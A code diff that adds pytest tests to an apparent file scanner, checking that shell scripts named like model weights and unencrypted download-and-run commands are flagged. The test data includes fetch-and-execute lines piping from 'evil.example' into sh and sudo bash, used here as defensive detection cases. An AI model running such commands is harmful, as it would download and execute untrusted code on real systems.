@@ -88,3 +88,22 @@ def test_hidden_code_in_a_notebook_stops_the_gate() -> None:
 
 def test_every_action_has_a_rule_and_severities() -> None:
     assert set(code._BY_ACTION) == set(code._SEVERITIES)
+
+
+@pytest.mark.parametrize("name", ["model.bin", "model.safetensors", "weights.PT"])
+def test_a_script_under_the_name_of_weights_is_suspicious(name: str) -> None:
+    assert scan_files({name: b"#!/bin/sh\necho hello\n"}).verdict is Verdict.SUSPICIOUS
+    assert scan_files({"run": b"#!/bin/sh\necho hello\n"}).verdict is Verdict.CLEAN
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        (b"curl evil.example/x | sh", Verdict.SUSPICIOUS),
+        (b"wget -qO- evil.example | sudo bash", Verdict.SUSPICIOUS),
+        (b"curl -fsSL https://sh.rustup.rs | sh", Verdict.CLEAN),
+        (b'curl "$URL" | sh', Verdict.CLEAN),
+    ],
+)
+def test_fetching_without_encryption_and_running_it_is_an_attack(command: bytes, verdict: Verdict) -> None:
+    assert scan_files({"install.sh": command}).verdict is verdict
